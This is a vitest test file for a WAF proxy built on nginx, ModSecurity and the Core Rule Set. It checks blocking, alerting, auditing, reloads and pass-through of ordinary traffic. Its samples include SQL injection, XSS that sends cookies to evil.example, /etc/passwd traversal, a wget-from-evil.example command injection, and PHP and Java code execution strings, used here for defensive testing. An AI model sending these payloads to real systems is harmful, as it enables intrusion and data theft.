import { existsSync } from 'node:fs';
import { mkdtemp, readdir, readFile, writeFile } from 'node:fs/promises';
import { Agent } from 'node:http';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Audit, AuditSchema } from '../../src/audit/audit.js';
import type { CompiledWaas } from '../../src/policy/compiled-policy.js';
import { DEBIAN_JEMALLOC, WaasProxy, type WaasProxyOptions } from '../../src/waas/proxy.js';
import { DEBIAN_PATHS } from '../../src/waas/render-config.js';
import { freePort, type Seen, send, startTestApp } from './test-app.js';

const SEEDS_SQLI = '{"-1+union+all+select+1,group_concat(user,0x3a,file_priv),3,4+from+mysql.user--"}';
const ALL: CompiledWaas['protections'] = [
  'sqli',
  'xss',
  'lfi',
  'rce',
  'protocol',
  'rfi',
  'php',
  'java',
  'session',
];

let app: Awaited<ReturnType<typeof startTestApp>>;
let dir: string;
let proxies = 0;

beforeAll(async () => {
  app = await startTestApp();
  dir = await mkdtemp(join(tmpdir(), 'waas-test-'));
});
afterAll(async () => {
  await app.close();
});

async function withProxy(
  waas: CompiledWaas,
  body: (proxy: WaasProxy, port: number, audits: (atLeast?: number) => Promise<Audit[]>) => Promise<void>,
  options: Partial<WaasProxyOptions> = {},
): Promise<void> {
  const port = await freePort();
  const auditFile = join(dir, `audit-${++proxies}.ndjson`);
  const proxy = new WaasProxy({
    listenPort: port,
    upstreamPort: app.port,
    auditFile,
    family: 'web',
    container: 'app',
    rule: 'waas-rule',
    auditPollMs: 50,
    ...options,
  });
  await proxy.start(waas);
  // ModSecurity writes a transaction's record in nginx's log phase, after the client has its
  // answer: wait (up to 5 s) until at least `atLeast` audits are there.
  const audits = async (atLeast = 1) => {
    for (const deadline = Date.now() + 5000; ; ) {
      await proxy.convertAudits();
      const text = await readFile(auditFile, 'utf8').catch(() => '');
      const list = text
        .split('\n')
        .filter(Boolean)
        .map((l) => AuditSchema.parse(JSON.parse(l)));
      if (list.length >= atLeast || Date.now() > deadline) return list;
      await new Promise((r) => setTimeout(r, 25));
    }
  };
  try {
    await body(proxy, port, audits);
  } finally {
    await proxy.stop();
  }
}

const appSaw = (predicate: (s: Seen) => boolean) => app.seen.some(predicate);

describe('Function: WaasProxy (real nginx + ModSecurity + CRS)', () => {
  it("blocks the seeds' SQL injection with the block page in prevent mode and audits it", async () => {
    await withProxy(
      { effect: 'prevent', protections: ['sqli', 'xss', 'lfi', 'rce', 'protocol'], paranoiaLevel: 1 },
      async (_p, port, audits) => {
        // Act
        const reply = await send(port, '/', {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: SEEDS_SQLI,
        });

        // Assess
        expect(reply.status).toBe(403);
        expect(reply.body).toContain('Request blocked');
        expect(appSaw((s) => s.body === SEEDS_SQLI)).toBe(false);
        const [audit, ...rest] = await audits();
        expect(rest).toEqual([]);
        expect(audit).toMatchObject({
          kind: 'waas',
          effect: 'prevent',
          rule: 'waas-rule',
          family: 'web',
          container: 'app',
        });
        expect(audit?.details).toMatchObject({ method: 'POST', uri: '/', source: '127.0.0.1' });
        expect(audit?.details.ruleIds).toContain('10100');
        expect(audit?.message).toMatch(/^Blocked: SQL Injection/);
      },
    );
  });

  it("lets the seeds' SQL injection through in alert mode and audits it", async () => {
    await withProxy(
      { effect: 'alert', protections: ['sqli'], paranoiaLevel: 1 },
      async (_p, port, audits) => {
        // Act
        const reply = await send(port, '/alert', {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: SEEDS_SQLI,
        });

        // Assess
        expect(reply.status).toBe(200);
        expect(appSaw((s) => s.url === '/alert' && s.body === SEEDS_SQLI)).toBe(true);
        const list = await audits();
        expect(list).toHaveLength(1);
        expect(list[0]).toMatchObject({ kind: 'waas', effect: 'alert' });
        expect(list[0]?.message).toMatch(/^Detected: SQL Injection/);
      },
    );
  });

  it('blocks a sample of OWASP attack payloads for each protection and names the CRS rule', async () => {
    const samples: { protection: string; path: string; rule: RegExp; init?: Parameters<typeof send>[2] }[] = [
      { protection: 'sqli', path: "/item?id=1'%20OR%20'1'='1", rule: /^942/ },
      {
        protection: 'sqli',
        path: '/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users',
        rule: /^942/,
      },
      { protection: 'xss', path: '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E', rule: /^941/ },
      { protection: 'xss', path: '/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E', rule: /^941/ },
      { protection: 'lfi', path: '/download?file=../../../../etc/passwd', rule: /^930/ },
      { protection: 'rce', path: '/ping?host=127.0.0.1;cat%20/etc/passwd', rule: /^932/ },
      { protection: 'rce', path: '/run?cmd=%24(wget%20http://evil.example/x.sh)', rule: /^932/ },
      { protection: 'rfi', path: '/page?include=http://198.51.100.7/shell.txt?', rule: /^931/ },
      { protection: 'php', path: '/index.php?code=%3C?php%20system($_GET[%27c%27]);%20?%3E', rule: /^933/ },
      { protection: 'java', path: '/api?x=java.lang.Runtime.getRuntime().exec(%22id%22)', rule: /^944/ },
      { protection: 'session', path: '/login?jsessionid=abc&x=%3Bjsessionid%3Dattacker', rule: /^943/ },
      {
        protection: 'protocol',
        path: '/',
        rule: /^92[01]/,
        init: {
          headers: { 'content-length': '5', 'transfer-encoding': 'chunked' },
          method: 'POST',
          body: '0\r\n\r\n',
        },
      },
      {
        // httpoxy: a Proxy header that a CGI app would take for its HTTP_PROXY (CRS's restricted headers).
        protection: 'protocol (restricted header)',
        path: '/restricted',
        rule: /^920450$/,
        init: { headers: { proxy: 'http://198.51.100.7:8080' } },
      },
      {
        // A part's charset the other rules would not decode (UTF-7 smuggles "<script>" past them).
        protection: 'protocol (multipart part charset)',
        path: '/upload',
        rule: /^922/,
        init: {
          method: 'POST',
          headers: { 'content-type': 'multipart/form-data; boundary=b0undary' },
          body: [
            '--b0undary',
            'Content-Disposition: form-data; name="note"',
            'Content-Type: text/plain; charset=utf-7',
            '',
            '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
            '--b0undary--',
            '',
          ].join('\r\n'),
        },
      },
      {
        protection: 'xss (JSON body)',
        path: '/comment',
        rule: /^941/,
        init: {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ text: '<script>fetch("//evil.example/"+document.cookie)</script>' }),
        },
      },
    ];
    await withProxy({ effect: 'prevent', protections: ALL, paranoiaLevel: 1 }, async (_p, port, audits) => {
      const results: { protection: string; status: number }[] = [];
      // Act
      for (const sample of samples) {
        const reply = await send(port, sample.path, sample.init).catch(() => ({ status: 0 }));
        results.push({ protection: sample.protection, status: reply.status });
      }
      const list = await audits(samples.filter((s) => s.protection !== 'protocol').length);

      // Assess
      const notBlocked = results.filter(
        (r, i) => r.status !== 403 && !(samples[i]?.protection === 'protocol' && r.status === 400),
      );
      expect(notBlocked).toEqual([]);
      for (const sample of samples) {
        if (sample.protection === 'protocol') continue;
        const uri = sample.path.split('?')[0];
        const audit = list.find(
          (a) =>
            String(a.details.uri).split('?')[0] === uri &&
            (a.details.ruleIds as string[]).some((id) => sample.rule.test(id)),
        );
        expect(audit, `${sample.protection} ${sample.path}`).toBeDefined();
      }
      // Each audit names its own transaction: nginx's request id.
      const ids = list.map((a) => a.details.id);
      for (const id of ids) expect(id).toMatch(/^[0-9a-f]{32}$/);
      expect(new Set(ids).size).toBe(ids.length);
    });
  });

  it('passes ordinary requests unchanged with zero false positives at paranoia level 1', async () => {
    const boundary = '----ecsadmission123';
    const upload = Buffer.concat([
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="title"\r\n\r\nHoliday photos 2024\r\n`,
      ),
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="photo.png"\r\nContent-Type: image/png\r\n\r\n`,
      ),
      Buffer.from([
        0x89,
        0x50,
        0x4e,
        0x47,
        0x0d,
        0x0a,
        0x1a,
        0x0a,
        ...Array.from({ length: 3000 }, (_, i) => (i * 7) % 256),
      ]),
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]);
    const benign: { path: string; init?: Parameters<typeof send>[2] }[] = [
      { path: '/' },
      { path: '/products?category=shoes&size=42&sort=price-asc&page=3' },
      { path: '/search?q=what%27s+new+in+node+20%3F' },
      { path: '/search?q=O%27Brien+%26+sons' },
      { path: '/articles/2024/05/hello-world.html' },
      // Names that hold a restricted one ("if", "content-range") without being it.
      {
        path: '/articles/2024/05/hello-world.html',
        init: { headers: { 'if-none-match': '"v1"', range: 'bytes=0-99', 'content-language': 'en' } },
      },
      { path: '/api/v1/users/123', init: { method: 'DELETE' } },
      { path: '/api/v1/users/123', init: { method: 'HEAD' } },
      { path: '/api/v1/users', init: { method: 'OPTIONS' } },
      {
        path: '/api/v1/users',
        init: {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({
            name: 'Ada Lovelace',
            email: 'ada@example.com',
            roles: ['admin', 'dev'],
            age: 36,
            bio: 'Wrote the first program; liked math.',
          }),
        },
      },
      {
        path: '/api/v1/users/123',
        init: {
          method: 'PUT',
          headers: { 'content-type': 'application/json' },
          body: '{"active":true,"tags":[],"nested":{"a":[1,2,3]}}',
        },
      },
      {
        path: '/api/v1/users/123',
        init: {
          method: 'PATCH',
          headers: { 'content-type': 'application/merge-patch+json' },
          body: '{"nickname":"ada"}',
        },
      },
      {
        path: '/login',
        init: {
          method: 'POST',
          headers: { 'content-type': 'application/x-www-form-urlencoded' },
          body: 'username=ada&password=correct+horse+battery+staple&remember=on',
        },
      },
      {
        path: '/upload',
        init: {
          method: 'POST',
          headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
          body: upload,
        },
      },
      {
        path: '/binary',
        init: {
          method: 'POST',
          headers: { 'content-type': 'application/octet-stream' },
          body: Buffer.from(Array.from({ length: 4096 }, (_, i) => i % 256)),
        },
      },
      {
        path: '/dashboard',
        init: {
          headers: {
            cookie: 'session=abc123; theme=dark',
            authorization: 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln',
            referer: 'https://app.example.com/home',
          },
        },
      },
    ];
    await withProxy({ effect: 'prevent', protections: ALL, paranoiaLevel: 1 }, async (_p, port, audits) => {
      // Act
      const replies = [];
      for (const b of benign)
        replies.push({ path: b.path, status: (await send(port, b.path, b.init)).status });
      await new Promise((r) => setTimeout(r, 200));

      // Assess
      expect(replies.filter((r) => r.status !== 200)).toEqual([]);
      expect(await audits(0)).toEqual([]);
    });
  });

  it('passes headers, bodies and status codes unchanged in both directions', async () => {
    await withProxy({ effect: 'prevent', protections: ALL, paranoiaLevel: 1 }, async (_p, port) => {
      const body = Buffer.from(Array.from({ length: 100_000 }, (_, i) => (i * 31) % 256));
      // Act
      const reply = await send(port, '/echo?x=1', {
        method: 'POST',
        headers: {
          'content-type': 'application/octet-stream',
          'x-request-id': 'r-42',
          'x-multi': ['a', 'b'],
        },
        body,
      });
      const own403 = await send(port, '/forbidden');
      const seen = app.seen.findLast((s) => s.url === '/echo?x=1');

      // Assess
      expect(reply.status).toBe(200);
      expect(JSON.parse(reply.body)).toMatchObject({ bodyLength: body.length, url: '/echo?x=1' });
      expect(seen?.body).toBe(body.toString('latin1'));
      expect(seen?.headers.host).toBe('app.example.com');
      expect(seen?.headers['x-request-id']).toBe('r-42');
      expect(seen?.headers['x-multi']).toBe('a, b');
      expect(seen?.headers['user-agent']).toBe('ecs-admission-test/1.0');
      expect(seen?.headers['x-ecs-admission-client']).toBeUndefined();
      expect(reply.headers['x-app-header']).toBe('kept');
      expect(reply.headers['set-cookie']).toEqual(['a=1', 'b=2']);
      expect(own403).toMatchObject({ status: 403, body: 'the app says no' });
      expect(own403.headers['x-app']).toBe('own-403');
    });
  });

  it('streams responses, upgrades websockets and keeps client connections alive', async () => {
    await withProxy({ effect: 'prevent', protections: ALL, paranoiaLevel: 1 }, async (_p, port) => {
      // Act: streaming
      const firstChunkAt = await new Promise<number>((resolve, reject) => {
        const started = Date.now();
        const req = connect(port, '127.0.0.1', () => {
          req.write('GET /stream HTTP/1.1\r\nHost: app.example.com\r\nUser-Agent: t\r\nAccept: */*\r\n\r\n');
        });
        req.once('data', () => {
          resolve(Date.now() - started);
          req.destroy();
        });
        req.once('error', reject);
      });
      // Act: websocket
      const echoed = await new Promise<string>((resolve, reject) => {
        const socket = connect(port, '127.0.0.1', () => {
          socket.write(
            'GET /ws HTTP/1.1\r\nHost: app.example.com\r\nUser-Agent: t\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n',
          );
        });
        let data = '';
        socket.on('data', (d) => {
          data += d.toString('latin1');
          if (data.includes('\r\n\r\n') && !data.includes('ping-frame')) socket.write('ping-frame');
          if (data.includes('ping-frame')) {
            resolve(data);
            socket.destroy();
          }
        });
        socket.once('error', reject);
      });
      // Act: keep-alive
      const agent = new Agent({ keepAlive: true, maxSockets: 1 });
      const ports = new Set<number>();
      for (let i = 0; i < 5; i++) {
        await new Promise<void>((resolve, reject) => {
          import('node:http').then(({ request }) => {
            const req = request(
              {
                host: '127.0.0.1',
                port,
                path: `/ka/${i}`,
                agent,
                headers: { host: 'app.example.com', 'user-agent': 't', accept: '*/*' },
              },
              (res) => {
                ports.add(req.socket?.localPort ?? -1);
                res.resume();
                res.on('error', reject);
                res.on('end', resolve);
              },
            );
            req.on('error', reject);
            req.end();
          }, reject);
        });
      }
      agent.destroy();

      // Assess
      expect(firstChunkAt).toBeLessThan(350);
      expect(echoed).toMatch(/^HTTP\/1\.1 101 Switching Protocols/);
      expect(echoed).toContain('ping-frame');
      expect(ports.size).toBe(1);
    });
  });

  it('skips inspection for allow-listed paths and sources, and refuses bodies over the limit', async () => {
    await withProxy(
      {
        effect: 'prevent',
        protections: ALL,
        paranoiaLevel: 1,
        allowPaths: ['/health/*'],
        bodyLimitBytes: 1000,
      },
      async (_p, port) => {
        // Act
        const allowed = await send(port, '/health/check?q=%3Cscript%3Ealert(1)%3C/script%3E');
        const blocked = await send(port, '/other?q=%3Cscript%3Ealert(1)%3C/script%3E');
        const large = await send(port, '/upload', {
          method: 'POST',
          headers: { 'content-type': 'text/plain' },
          body: 'x'.repeat(2000),
        });

        // Assess
        expect(allowed.status).toBe(200);
        expect(blocked.status).toBe(403);
        expect(large.status).toBe(413);
      },
    );
    await withProxy(
      { effect: 'prevent', protections: ALL, paranoiaLevel: 1, allowSources: ['127.0.0.0/8'] },
      async (_p, port) => {
        // Act
        const reply = await send(port, '/other?q=%3Cscript%3Ealert(1)%3C/script%3E');

        // Assess
        expect(reply.status).toBe(200);
      },
    );
  });

  it('runs the CRS rules of the paranoia level and none above it (the filtered rule files)', async () => {
    // Prepare: "@@version" is caught only by rules of paranoia level 2 and up.
    const path = `/pl?q=${encodeURIComponent('@@version')}`;
    const statuses: number[] = [];

    // Act
    for (const paranoiaLevel of [1, 2]) {
      await withProxy(
        { effect: 'prevent', protections: ['sqli', 'xss'], paranoiaLevel },
        async (_p, port) => {
          statuses.push((await send(port, path)).status);
        },
      );
    }

    // Assess
    expect(statuses).toEqual([200, 403]);
  });

  it("keeps a restricted-headers list set in crs-setup.conf instead of building CRS's default in", async () => {
    // Prepare: Debian's crs-setup.conf with one more setting, as a user would edit it.
    const crsSetup = join(dir, 'crs-setup.conf');
    await writeFile(
      crsSetup,
      `${await readFile(DEBIAN_PATHS.crsSetup, 'utf8')}
SecAction "id:900250,phase:1,nolog,pass,t:none,setvar:'tx.restricted_headers=/x-evil/'"
`,
    );
    const statuses: Record<string, number> = {};

    // Act
    await withProxy(
      { effect: 'prevent', protections: ['protocol'], paranoiaLevel: 1 },
      async (_p, port) => {
        statuses['x-evil'] = (await send(port, '/restricted', { headers: { 'x-evil': '1' } })).status;
        statuses.proxy = (
          await send(port, '/restricted', { headers: { proxy: 'http://198.51.100.7:8080' } })
        ).status;
      },
      { paths: { ...DEBIAN_PATHS, crsSetup } },
    );

    // Assess: the edited list is the one in force.
    expect(statuses).toEqual({ 'x-evil': 403, proxy: 200 });
  });

  it('refuses multipart bodies that fail strict validation and passes well-formed ones', async () => {
    await withProxy({ effect: 'prevent', protections: ALL, paranoiaLevel: 1 }, async (_p, port, audits) => {
      // Prepare
      const boundary = 'b0undary42';
      const part = `--${boundary}\r\nContent-Disposition: form-data; name="note"\r\n\r\nhello\r\n--${boundary}--\r\n`;
      const post = (path: string, body: string, type = `multipart/form-data; boundary=${boundary}`) =>
        send(port, path, { method: 'POST', headers: { 'content-type': type }, body });

      // Act
      const wellFormed = await post('/mp/ok', part);
      const dataBefore = await post('/mp/before', `junk\r\n${part}`);
      const quoted = await post('/mp/quoted', part, `multipart/form-data; boundary="${boundary}"`);
      const list = await audits(2);

      // Assess
      expect(wellFormed.status).toBe(200);
      expect(dataBefore.status).toBe(400);
      expect(quoted.status).toBe(400);
      expect(appSaw((s) => s.url === '/mp/ok')).toBe(true);
      expect(appSaw((s) => s.url === '/mp/before' || s.url === '/mp/quoted')).toBe(false);
      const strict = list.filter((a) => (a.details.ruleIds as string[]).includes('200003'));
      expect(strict.map((a) => String(a.details.uri)).sort()).toEqual(['/mp/before', '/mp/quoted']);
    });
  });

  it('names the CRS rule file it cannot read and leaves no WAF instance behind', async () => {
    // Prepare
    const workDir = await mkdtemp(join(tmpdir(), 'waas-no-crs-'));
    const proxy = new WaasProxy({
      listenPort: await freePort(),
      upstreamPort: app.port,
      auditFile: join(dir, 'no-crs.ndjson'),
      family: 'web',
      container: 'app',
      rule: null,
      workDir,
      paths: { ...DEBIAN_PATHS, crsRulesDir: '/nonexistent/crs' },
    });

    // Act
    const started = proxy.start({ effect: 'prevent', protections: ['sqli'], paranoiaLevel: 1 });

    // Assess
    await expect(started).rejects.toThrow(
      /\/nonexistent\/crs\/REQUEST-901-INITIALIZATION\.conf cannot be read \(is Debian's modsecurity-crs installed\?\)/,
    );
    expect((await readdir(workDir)).filter((d) => d.startsWith('waf-'))).toEqual([]);
  });

  it('refuses a work directory too long for its unix sockets, naming the field and the fix, and makes nothing', async () => {
    // Prepare: 90 bytes of directory leave no room for waf-N/waf.sock in sun_path's 107.
    const workDir = join(dir, 'd'.repeat(90 - dir.length - 1));
    const proxy = new WaasProxy({
      listenPort: await freePort(),
      upstreamPort: app.port,
      auditFile: join(dir, 'long.ndjson'),
      family: 'web',
      container: 'app',
      rule: null,
      workDir,
    });

    // Act
    const started = proxy.start({ effect: 'prevent', protections: ['sqli'], paranoiaLevel: 1 });

    // Assess
    await expect(started).rejects.toMatchObject({
      name: 'WaasConfigError',
      field: 'workDir',
      message: expect.stringMatching(
        /too long for nginx's unix sockets .*: give workDir a shorter directory$/,
      ),
    });
    expect(existsSync(workDir)).toBe(false);
  });

  it("runs the WAF layer's nginx on jemalloc (Debian's libjemalloc2) and the front on glibc's malloc", async () => {
    await withProxy({ effect: 'prevent', protections: ['sqli'], paranoiaLevel: 1 }, async (proxy, port) => {
      // Act
      const reply = await send(port, '/item?id=1');
      const [front, waf] = proxy.pids;
      const maps = async (pid: number | undefined) => readFile(`/proc/${pid}/maps`, 'utf8');

      // Assess
      expect(reply.status).toBe(200);
      expect(await maps(waf)).toContain(DEBIAN_JEMALLOC);
      expect(await maps(front)).not.toContain('libjemalloc');
    });
  });

  it('applies a new policy on reload and resets no connection under keep-alive load while reloading', async () => {
    await withProxy({ effect: 'prevent', protections: ['sqli'], paranoiaLevel: 1 }, async (proxy, port) => {
      const attack = () => send(port, '/r?id=1%20UNION%20SELECT%20password%20FROM%20users');
      const before = await attack();
      const frontPid = proxy.pids[0];
      const firstWaf = proxy.pids[1];
      let stop = false;
      const failures: string[] = [];
      let done = 0;
      // Kept-alive connections, GETs and POSTs, no retry: a request lost at a reload fails here.
      const agent = new Agent({ keepAlive: true, maxSockets: 8 });
      const worker = async (w: number) => {
        while (!stop) {
          const n = done++;
          const post = n % 2 === 1;
          try {
            const r = await send(port, `/load/${n}`, {
              agent,
              method: post ? 'POST' : 'GET',
              headers: post ? { 'content-type': 'application/json' } : {},
              body: post ? JSON.stringify({ worker: w, n }) : undefined,
            });
            if (r.status !== 200) failures.push(`${n}: HTTP ${r.status}`);
          } catch (error) {
            failures.push(`${n}: ${error instanceof Error ? error.message : String(error)}`);
          }
        }
      };

      // Act
      const workers = Array.from({ length: 8 }, (_, w) => worker(w));
      const policies: CompiledWaas[] = [
        { effect: 'alert', protections: ['sqli'], paranoiaLevel: 1 },
        { effect: 'prevent', protections: ['sqli', 'xss'], paranoiaLevel: 1 },
        { effect: 'alert', protections: ['sqli'], paranoiaLevel: 1 },
        { effect: 'prevent', protections: ['sqli', 'lfi'], paranoiaLevel: 1 },
        { effect: 'alert', protections: ['sqli'], paranoiaLevel: 1 },
      ];
      // Right after each reload resolves, while the front's connections to the WAF are kept alive
      // by the load, an attack meets the new policy: blocked in prevent mode, passed in alert mode.
      const afterReload: number[] = [];
      for (const policy of policies) {
        await new Promise((r) => setTimeout(r, 150));
        await proxy.reload(policy);
        afterReload.push((await attack()).status);
      }
      await new Promise((r) => setTimeout(r, 150));
      stop = true;
      await Promise.all(workers);
      agent.destroy();
      const after = await attack();
      // The replaced WAF instances finish and go once their drain time is over.
      await new Promise((r) => setTimeout(r, 1500));

      // Assess
      expect(before.status).toBe(403);
      expect(afterReload).toEqual(policies.map((p) => (p.effect === 'prevent' ? 403 : 200)));
      expect(after.status).toBe(200);
      expect(done).toBeGreaterThan(100);
      expect(failures).toEqual([]);
      const loads = app.seen.filter((s) => s.url.startsWith('/load/'));
      expect(loads.length).toBe(done);
      expect(new Set(loads.map((s) => s.url)).size).toBe(done);
      expect(proxy.pids[0]).toBe(frontPid);
      expect(proxy.pids[1]).not.toBe(firstWaf);
      expect(() => process.kill(firstWaf!, 0)).toThrow();
      const dirs = await readdir(proxy.workDirectory);
      expect(dirs.filter((d) => d.startsWith('waf-'))).toEqual([`waf-${policies.length + 1}`]);
    });
  });
});
